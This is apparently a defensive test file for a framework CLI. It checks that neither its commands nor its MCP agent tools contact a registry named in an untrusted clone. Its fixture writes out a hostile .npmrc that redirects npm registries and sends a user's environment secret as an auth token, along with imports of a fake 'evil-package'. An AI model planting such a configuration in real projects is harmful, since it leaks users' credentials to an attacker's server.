/** A clone whose settings send the user's variables to its own registry. */
import { assert, assertEquals, assertNotEquals, assertStringIncludes } from "@std/assert";
import { fromFileUrl, join } from "@std/path";
import { runTests } from "../../../cli/check/tests.ts";
import { runDeno } from "../../../cli/project/process/deno.ts";
import { runForeign } from "../../../cli/project/process/foreign.ts";
import { createProject } from "../../../cli/project/project.ts";
import { dial, stdio } from "../../../ai/mcp/mod.ts";
import { inScratch, runCli, writeFiles } from "../support.ts";
import { serveLocal } from "../../serve_local.ts";

const main = fromFileUrl(new URL("../../../cli/main.ts", import.meta.url));
const secret = "s3cret-of-the-user";
const hostileImport = `import { Evil } from "npm:evil-package@1.0.0";
import other from "npm:@evil/other@1";
`;

interface HostileFolder {
  readonly cwd: string;
  /** Returns the requests to the registry since the last call. */
  readonly take: () => string[];
}

async function inHostileFolder(work: (folder: HostileFolder) => Promise<void>): Promise<void> {
  let requests: string[] = [];
  await using server = serveLocal(({ url, headers }) => {
    requests.push(`${new URL(url).pathname} ${headers.get("authorization")}`);
    return new Response(null, { status: 404 });
  });
  const registry = `127.0.0.1:${server.addr.port}`;
  await inScratch(async (folder) => {
    await runCli(["new", "shop"], { cwd: folder });
    const cwd = join(folder, "shop");
    await writeFiles(cwd, {
      ".npmrc": `registry=http://${registry}
@evil:registry=http://${registry}
//${registry}/:_authToken=\${HOSTILE_SECRET}
`,
      "app/api/evil/route.ts": `${hostileImport}import type { Ctx } from "@fw/fw";

export async function POST(c: Ctx): Promise<Response> {
  return c.json(200, await c.bindJson(Evil ?? other));
}
`,
      "islands/evil.ts": `${hostileImport}export default () => [Evil, other];\n`,
      "app/evil_test.ts": `${hostileImport}Deno.test("evil", () => void [Evil, other]);\n`,
      "openapi.json": "{}",
      "policy.txt": "",
    });
    await work({
      cwd,
      take: () => {
        const taken = requests;
        requests = [];
        return taken;
      },
    });
  });
}

const commands: readonly (readonly string[])[] = [
  ["routes"],
  ["gen"],
  ["generate", "page", "/more"],
  ["policy"],
  ["policy", "--check"],
  ["audit"],
  ["ctx"],
  ["openapi"],
  ["openapi", "--against", "openapi.json"],
  ["check"],
  ["check", "--json"],
  ["migrate"],
  ["jobs"],
  ["export", "--out", "site"],
  ["generate", "database", "postgres"],
  ["migrate"],
  ["generate", "resource", "cars", "title:text"],
  ["ui", "--brand", "#336699"],
  ["docs", "routing"],
  ["agents"],
  ["ui"],
  ["incident"],
  ["build"],
];

Deno.test("no command contacts the registry named by an untrusted clone", () =>
  inHostileFolder(async ({ cwd, take }) => {
    for (const args of commands) {
      const { code, stderr } = await runCli(args, { cwd });
      assertEquals(take(), [], `fw ${args.join(" ")}`);
      assertNotEquals(code, 2, stderr);
    }
    // Failing bundles end the command before the types, and failing types before the tests.
    await Deno.remove(join(cwd, "islands/evil.ts"));
    await runCli(["gen"], { cwd });
    for (const args of [["check", "--fix"], ["check"], ["check"]]) {
      await runCli(args, { cwd });
      assertEquals(take(), [], `fw ${args.join(" ")}`);
    }
    const { signal } = new AbortController();
    for (const isOwn of [true, false]) {
      const project = createProject(cwd);
      await runTests(project, { isOwn, pages: cwd, fix: false, signal });
      assertEquals(take(), [], `tests, ${isOwn}`);
    }
    // By default Deno sends the variable in this folder.
    const env = { HOSTILE_SECRET: secret };
    await runDeno(["check", "app/api/evil/route.ts"], { cwd, env });
    const taken = take();
    assert(taken.length > 0);
    for (const request of taken) assertStringIncludes(request, `Bearer ${secret}`);
  }));

Deno.test("no tool for agents contacts the registry named by an untrusted clone", () =>
  inHostileFolder(async ({ cwd, take }) => {
    const program = [Deno.execPath(), "run", "-A", "--no-check", main, "mcp"];
    const args = ["-c", 'cd "$0" && exec "$@"', cwd, ...program];
    const env = { ...Deno.env.toObject(), HOSTILE_SECRET: secret };
    const client = await dial(stdio("sh", args, { env }), { timeoutMs: 240_000 });
    take();
    const given: Readonly<Record<string, Record<string, unknown>>> = {
      docs: { words: "routing" },
      render: { path: "/" },
      generate: { what: "page", args: ["/more"] },
    };
    const tools = await client.tools();
    assert(tools.length >= 9);
    for (const { name } of tools) {
      await client.callTool(name, given[name] ?? {});
      assertEquals(take(), [], name);
    }
    await client.close();
  }));

Deno.test("runForeign: passes no environment variable that may be a secret", async () => {
  const program = "console.log(JSON.stringify(Object.keys(Deno.env.toObject())))";
  const { stdout } = await runForeign(["eval", program], { cwd: "/", allowScripts: true });
  const known =
    /^(?:PATH|LD_LIBRARY_PATH|HOME|TE?MP(?:DIR)?|LANG|LC_\w+|FW_LANG|DENO_(?:DIR|CERT|TLS_CA_STORE|NO_UPDATE_CHECK)|DENORT_BIN|XDG_CACHE_HOME|JSR_URL|NPM_CONFIG_REGISTRY|\w+_PROXY|\w+_proxy|NO_COLOR|RUST_BACKTRACE)$/;
  const names: string[] = JSON.parse(stdout);
  assert(names.includes("PATH"));
  assertEquals(names.filter((name) => !known.test(name)), []);
});
